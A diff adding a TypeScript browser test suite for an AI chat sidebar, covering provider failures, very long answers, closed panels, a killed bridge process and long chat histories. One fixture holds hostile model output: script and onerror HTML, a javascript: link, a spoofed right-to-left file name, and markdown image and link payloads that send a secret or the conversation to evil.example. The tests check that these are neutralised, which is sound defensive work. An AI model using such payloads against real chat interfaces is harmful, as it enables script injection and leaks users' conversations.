@@ -1,0 +1,126 @@
+// What can go wrong in a chat: a provider that goes, hostile words, very long ones, a panel that closes, a bridge that ends.
+
+import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
+import { describe, test } from "node:test";
+import { until } from "../driver/browser.ts";
+import { Sidebar } from "../driver/sidebar.ts";
+import { placeOf, say, talking } from "../driver/talking.ts";
+import { writeToolsServer } from "../driver/tools_server.ts";
+import { type World, inBrowsers } from "../driver/world.ts";
+
+const HOSTILE = [
+  "<img src=https://evil.example/a.png onerror=alert(1)><script>alert(1)</script>",
+  "![picture](https://evil.example/b.png?secret=1)",
+  "[bank](https://bank.example.evil.example/) [run](javascript:alert(1)) [data](https://evil.example/?q=all-that-you-said)",
+  "\u202Egnp.exe **un*closed _marks `and",
+].join("\n\n");
+
+for (const inBrowser of inBrowsers) {
+  describe(inBrowser.name, () => {
+    test("a provider that goes in the middle of an answer leaves what has come, says so, and one button tries again", () =>
+      inBrowser.run(async (world: World) =>
+        talking(world, async (panel, echo) => {
+          echo.script.push(async () => "<cut>");
+          await say(panel, "<cut>");
+          await panel.says(".conversation li:last-child [data-code]", /./);
+          echo.script.push(async () => "whole again");
+          await panel.click(".conversation li:last-child button[aria-label], .conversation li:last-child button");
+          await panel.says(".conversation .answer .markdown", /whole again/);
+        }),
+      ));
+
+    test("a model's HTML is text, its pictures are not loaded, and a link that carries data asks before it opens", () =>
+      inBrowser.run(async (world: World) =>
+        talking(world, async (panel, echo) => {
+          echo.script.push(async () => HOSTILE);
+          await say(panel, "go");
+          await panel.says(".conversation .answer .markdown", /<script>alert\(1\)/);
+          assert.equal(await panel.count(".markdown :is(img, script, iframe, [onerror], [href^='javascript'])"), 0);
+          assert.match(await panel.text(".markdown"), /bank \(bank\.example\.evil\.example\)/);
+          await panel.click(".markdown a[href*='q=']");
+          await panel.says("#foot .notice", /carries data.*all-that-you-said/s);
+          await panel.click("#stay");
+          await panel.gone("#foot .notice");
+          assert.equal(await world.browser.count("evil.example"), 0);
+        }),
+      ));
+
+    test("an answer of 50 kB and a list of 10,000 items are shown, and the person can type meanwhile", () =>
+      inBrowser.run(async (world: World) =>
+        talking(world, async (panel, echo) => {
+          await say(panel, "<many 9000>");
+          await panel.type("#say-text", "a draft");
+          await panel.says(".conversation .answer .markdown", / 8999/);
+          assert.equal(await panel.page.run("return document.querySelector('#say-text').value"), "a draft");
+          echo.script.push(async () => "- x\n".repeat(10_000));
+          await panel.type("#say-text", "list");
+          await panel.click("#send");
+          await panel.says(".conversation li.answer:last-child", /Show/);
+          assert.ok((await panel.count(".markdown li")) <= 1_000);
+        }),
+      ));
+
+    test("a panel that closes while a call waits finds the question again; a turn that ends without a panel is told", () =>
+      inBrowser.run(async (world: World) => {
+        await world.harbor.cli("add", "weather", "--", "node", await writeToolsServer(world.harbor));
+        await talking(world, async (panel, echo) => {
+          let finish = () => {};
+          const finished = new Promise<void>((resolve) => (finish = resolve));
+          echo.script.push(async () => ({ tool: "report", args: {} }), async () => finished.then(() => "It is done."));
+          await say(panel, "report it");
+          await panel.says(".step[data-state=asked]", /report/);
+          const place = await placeOf(panel);
+          await panel.page.close();
+          const again = await Sidebar.open(world.browser, place);
+          await until("the yes", async () => (await again.count("[data-answer=once]:not([aria-disabled])")) > 0 || undefined);
+          await again.click("[data-answer=once]");
+          await again.says(".step[data-state=failed]", /report/);
+          const other = await Sidebar.open(world.browser, "servers");
+          await again.page.close();
+          finish();
+          await until("the notice", async () => ((await other.page.run("return Object.keys(await chrome.notifications.getAll()).join()")) as string).includes(place) || undefined);
+          await other.go(place);
+          await other.says(".conversation .answer .markdown", /It is done/);
+        });
+      }));
+
+    test("a bridge that is killed in the middle leaves the chat readable, and the next one goes on with it", () =>
+      inBrowser.run(async (world: World) =>
+        talking(world, async (panel) => {
+          await say(panel, "before");
+          await panel.says(".conversation .answer .markdown", /before/);
+          await say(panel, "<hang>");
+          await panel.says(".conversation li:nth-child(4) .markdown", /and/);
+          const { bridge } = JSON.parse(await world.harbor.cli("status", "--json"));
+          execFileSync("kill", ["-9", String(bridge.pid)]);
+          await panel.says(".conversation li:nth-child(3) .text", /<hang>/);
+          await until("a chat that can be said something", async () => (await panel.count("#send")) > 0 || undefined);
+          await say(panel, "after");
+          await panel.says(".conversation li.answer:last-child .markdown", /after/);
+        }),
+      ));
+
+    test("of a thousand messages the newest are elements, and the others come when they are wanted", () =>
+      inBrowser.run(async (world: World) =>
+        talking(world, async (panel) => {
+          await say(panel, "one");
+          await panel.says(".conversation .answer .markdown", /one/);
+          await panel.go("chats");
+          await panel.text(".chats");
+          const messages = Array.from({ length: 1_000 }, (_, at) => ({ role: at % 2 === 0 ? "user" : "assistant", content: `message ${at}` }));
+          await panel.page.run(`
+            const port = document.querySelector("#import-chat");
+            const file = new File([${JSON.stringify(JSON.stringify({ session: { id: "x", name: "long", mode: "ask", private: false, readUntrusted: false, privateNames: [], messageCount: 1000, createdAt: 1, updatedAt: 1 }, messages }))}], "long.json", { type: "application/json" });
+            const data = new DataTransfer();
+            data.items.add(file);
+            port.files = data.files;
+            port.dispatchEvent(new Event("change", { bubbles: true }));`);
+          await panel.says(".conversation", /message 999/);
+          assert.equal(await panel.count(".conversation > li"), 200);
+          await panel.click("#earlier");
+          await until("earlier ones", async () => (await panel.count(".conversation > li")) === 400 || undefined);
+        }),
+      ));
+  });
+}
